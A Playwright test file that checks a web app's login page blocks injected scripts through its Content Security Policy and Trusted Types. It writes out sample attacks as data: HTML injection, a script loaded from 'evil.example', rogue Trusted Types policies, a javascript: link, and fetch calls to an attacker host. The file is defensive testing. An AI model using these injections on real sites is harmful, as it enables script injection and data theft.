import { expect, test } from '@playwright/test';
import { visit } from './people.ts';

// Without `test` of test.ts: there, whatever the page complains of is a failure.

/** What a script that got in would do, and whether the page let it. */
const attempts = () => {
	const tried = (attempt: () => unknown) => {
		try {
			attempt();
			return 'done';
		} catch {
			return 'refused';
		}
	};
	const made = document.createElement('script');
	const types = window.trustedTypes;
	return {
		'HTML of a text': tried(() => (document.body.innerHTML = '<b>x</b>')),
		'HTML beside an element': tried(() => document.body.insertAdjacentHTML('beforeend', '<b>x</b>')),
		'a document written': tried(() => document.write('<b>x</b>')),
		'the text of a script': tried(() => (made.text = 'window.pwned = 1')),
		'the address of a script': tried(() => (made.src = 'https://evil.example/x.js')),
		'a policy of its own': tried(() => types?.createPolicy('evil', { createHTML: (html) => html })),
		'the default policy': tried(() => types?.createPolicy('default', { createHTML: (html) => html })),
		'a policy twice': tried(() => types?.createPolicy('svelte-trusted-html', { createHTML: (html) => html }))
	};
};

test(
	'a script that got in makes no HTML, no other script and no policy',
	{ tag: '@once' },
	async ({ page }) => {
		await visit(page, '/login');
		const found = await page.evaluate(attempts);
		expect(found).toEqual(Object.fromEntries(Object.keys(found).map((name) => [name, 'refused'])));

		// What was in the HTML without the nonce runs neither, and nothing is told elsewhere.
		await page.evaluate(() => {
			const link = document.createElement('a');
			link.href = 'javascript:void(document.title = "pwned")';
			document.body.append(link);
			link.click();
		});
		const told = await page.evaluate(() =>
			Promise.allSettled([fetch('https://evil.example/'), fetch('http://127.0.0.1:9/', { mode: 'no-cors' })])
		);
		expect(told.map(({ status }) => status)).toEqual(['rejected', 'rejected']);
		expect(await page.title()).not.toBe('pwned');
		await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
	}
);
